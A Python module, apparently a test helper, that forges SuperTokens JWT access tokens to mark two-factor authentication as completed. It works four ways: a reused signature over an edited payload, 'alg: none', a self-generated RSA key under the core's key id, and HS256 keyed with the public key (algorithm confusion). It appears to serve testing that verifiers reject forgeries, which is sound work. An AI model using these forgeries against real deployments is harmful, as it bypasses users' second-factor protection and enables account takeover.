"""Access tokens as an attacker would forge them, from a real one.

SuperTokens access tokens are JWTs signed by the core (RS256, ``kid`` naming the key).
Each forgery here keeps the real token's claims but sets ``2fa-completed`` to true, and
differs in how it tries to get past the signature check.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

CLAIM = "2fa-completed"


def parts(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    header, payload, signature = token.split(".")
    return _decode(header), _decode(payload), signature


def claiming_second_factor(token: str) -> dict[str, Any]:
    """The token's payload, with the second factor marked as done."""
    _, payload, _ = parts(token)
    claim = dict(payload.get(CLAIM) or {})
    claim["v"] = True
    return {**payload, CLAIM: claim}


def payload_edited(token: str) -> str:
    """The real header and signature over an edited payload."""
    header, _, signature = token.split(".")
    return f"{header}.{_encode(claiming_second_factor(token))}.{signature}"


def unsigned(token: str) -> str:
    """``alg: none`` and no signature (some JWT libraries once accepted that)."""
    header, _, _ = parts(token)
    return _sign_with(
        {**header, "alg": "none"}, claiming_second_factor(token), lambda _data: b""
    )


def signed_by_another_key(token: str, *, kid: str | None = None) -> str:
    """RS256 with the attacker's own key, under the core's key id or one of its own."""
    header, _, _ = parts(token)
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return _sign_with(
        {**header, "alg": "RS256", "kid": kid or header["kid"]},
        claiming_second_factor(token),
        lambda data: key.sign(data, padding.PKCS1v15(), hashes.SHA256()),
    )


def hmac_with_public_key(token: str, jwks: dict[str, Any]) -> str:
    """HS256 keyed with the core's *public* key (the RS/HS algorithm confusion)."""
    header, _, _ = parts(token)
    [jwk] = [k for k in jwks["keys"] if k["kid"] == header["kid"]]
    public_key = rsa.RSAPublicNumbers(_int(jwk["e"]), _int(jwk["n"])).public_key()
    secret = public_key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    return _sign_with(
        {**header, "alg": "HS256"},
        claiming_second_factor(token),
        lambda data: hmac.new(secret, data, hashlib.sha256).digest(),
    )


def _sign_with(header: dict[str, Any], payload: dict[str, Any], sign: Any) -> str:
    signing_input = f"{_encode(header)}.{_encode(payload)}"
    signature = (
        base64.urlsafe_b64encode(sign(signing_input.encode())).rstrip(b"=").decode()
    )
    return f"{signing_input}.{signature}"


def _encode(value: dict[str, Any]) -> str:
    raw = json.dumps(value, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def _decode(segment: str) -> dict[str, Any]:
    return dict(
        json.loads(base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4)))
    )


def _int(b64url: str) -> int:
    return int.from_bytes(
        base64.urlsafe_b64decode(b64url + "=" * (-len(b64url) % 4)), "big"
    )
